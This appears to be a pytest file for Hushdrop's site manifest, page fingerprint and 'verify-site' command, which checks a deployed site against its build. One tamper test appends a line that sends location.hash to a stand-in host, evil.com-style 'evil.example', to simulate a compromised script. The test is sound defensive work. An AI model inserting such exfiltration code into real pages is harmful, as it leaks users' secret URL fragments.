"""The site manifest the build writes, the fingerprint the page shows, and `hushdrop verify-site`
against real servers: a plain static host, and `hushdrop serve` over HTTPS."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

from hushdrop.site_manifest import (
    FINGERPRINT_PLACEHOLDER,
    MANIFEST_NAME,
    fingerprint,
    shown,
)

from tests.conftest import REPO_ROOT, RelayFactory
from tests.deploy.proxies import free_port
from tests.deploy.static import StaticServer
from tests.deploy.tls import TestCA

sys.path.insert(0, str(REPO_ROOT / "web"))
import build_site


def verify_site(url: str, manifest: Path, env: dict[str, str] | None = None):
    return subprocess.run(
        [sys.executable, "-m", "hushdrop.cli.main", "verify-site", url, "--manifest", manifest],
        capture_output=True,
        text=True,
        timeout=120,
        env=env,
    )


def manifest_of(site: Path) -> dict:
    return json.loads((site / MANIFEST_NAME).read_text())


def test_the_manifest_lists_every_file_with_its_sha256(built_site: Path) -> None:
    files = manifest_of(built_site)["files"]
    on_disk = sorted(
        p.relative_to(built_site).as_posix()
        for p in built_site.rglob("*")
        if p.is_file() and p.name != MANIFEST_NAME
    )
    assert sorted(files) == on_disk
    for path, digest in files.items():
        assert hashlib.sha256((built_site / path).read_bytes()).hexdigest() == digest


def test_the_page_shows_the_fingerprint_of_the_whole_site(built_site: Path) -> None:
    manifest = manifest_of(built_site)
    page = (built_site / "index.html").read_text()
    assert f'<code class="site-fingerprint">{shown(manifest["fingerprint"])}</code>' in page
    # Anyone can recompute it: the files' hashes, the page taken with its placeholder back.
    hashes = dict(manifest["files"])
    original = page.replace(shown(manifest["fingerprint"]), FINGERPRINT_PLACEHOLDER)
    hashes["index.html"] = hashlib.sha256(original.encode()).hexdigest()
    assert fingerprint(hashes) == manifest["fingerprint"]


def test_the_same_sources_build_the_same_fingerprint(built_site: Path, tmp_path: Path) -> None:
    again = build_site.build(tmp_path / "again")
    assert manifest_of(again) == manifest_of(built_site)
    other_relay = build_site.build(tmp_path / "other", relay="https://relay.example")
    assert manifest_of(other_relay)["fingerprint"] != manifest_of(built_site)["fingerprint"]


def test_settings_given_to_the_build_are_part_of_the_fingerprint(
    built_site: Path, tmp_path: Path
) -> None:
    ice = {"iceServers": [{"urls": "stun:turn.example.org:3478"}]}
    settings = tmp_path / "settings.json"
    settings.write_text(json.dumps(ice))
    out = tmp_path / "with-stun"
    subprocess.run(
        [sys.executable, REPO_ROOT / "web" / "build_site.py", "--out", out, "--config", settings],
        check=True,
        capture_output=True,
        timeout=300,
    )
    assert json.loads((out / "config.json").read_text())["iceServers"] == ice["iceServers"]
    assert manifest_of(out)["fingerprint"] != manifest_of(built_site)["fingerprint"]


def test_a_site_deployed_as_built_matches(built_site: Path) -> None:
    with StaticServer(built_site) as server:
        result = verify_site(server.url + "/", built_site / MANIFEST_NAME)
    assert result.returncode == 0, result.stdout + result.stderr
    count = len(manifest_of(built_site)["files"]) + 1  # and the site's address itself
    assert f"All {count} files match" in result.stdout
    assert "  OK        index.html\n" in result.stdout


def test_every_changed_missing_or_extra_file_is_reported(built_site: Path, tmp_path: Path) -> None:
    deployed = tmp_path / "deployed"
    shutil.copytree(built_site, deployed)
    manifest = manifest_of(built_site)
    script = next(p for p in manifest["files"] if p.startswith("app.") and p.endswith(".js"))
    with (deployed / script).open("a") as handle:
        handle.write("\nfetch('https://evil.example/?' + location.hash);\n")
    (deployed / "selftest.html").unlink()
    (deployed / "extra.js").write_text("// not in the build\n")
    listed = manifest_of(deployed)
    listed["files"]["extra.js"] = hashlib.sha256(b"// not in the build\n").hexdigest()
    (deployed / MANIFEST_NAME).write_text(json.dumps(listed))

    with StaticServer(deployed) as server:
        result = verify_site(server.url, built_site / MANIFEST_NAME)
    assert result.returncode == 1, result.stdout + result.stderr
    assert f"  DIFFERENT {script}  (expected sha256 {manifest['files'][script]}, got " in (
        result.stdout
    )
    assert "  MISSING   selftest.html  (HTTP 404)" in result.stdout
    assert "  EXTRA     extra.js" in result.stdout
    assert "  OK        index.html\n" in result.stdout
    assert "3 of " in result.stdout and "files differ from your build" in result.stdout


def test_the_site_hushdrop_serve_sends_over_https_matches(
    relay_factory: RelayFactory, built_site: Path, test_ca: TestCA
) -> None:
    trust = {"SSL_CERT_FILE": str(test_ca.ca)}
    relay = relay_factory(
        "--site-dir", str(built_site),
        "--tls-cert", str(test_ca.cert), "--tls-key", str(test_ca.key),
        env=trust,
    )  # fmt: skip
    result = verify_site(relay.url, built_site / MANIFEST_NAME, env={**_clean_env(), **trust})
    assert result.returncode == 0, result.stdout + result.stderr


def test_an_unreachable_site_exits_4(built_site: Path) -> None:
    result = verify_site(f"http://127.0.0.1:{free_port()}/", built_site / MANIFEST_NAME)
    assert result.returncode == 4
    assert "Cannot fetch" in result.stderr


def test_a_file_that_is_not_a_manifest_is_a_usage_error(tmp_path: Path) -> None:
    bogus = tmp_path / "m.json"
    bogus.write_text("{}")
    result = verify_site("http://127.0.0.1:9/", bogus)
    assert result.returncode == 2
    assert "is not a Hushdrop site manifest" in result.stderr


def _clean_env() -> dict[str, str]:
    return {k: v for k, v in os.environ.items() if not k.startswith("HUSHDROP_")}
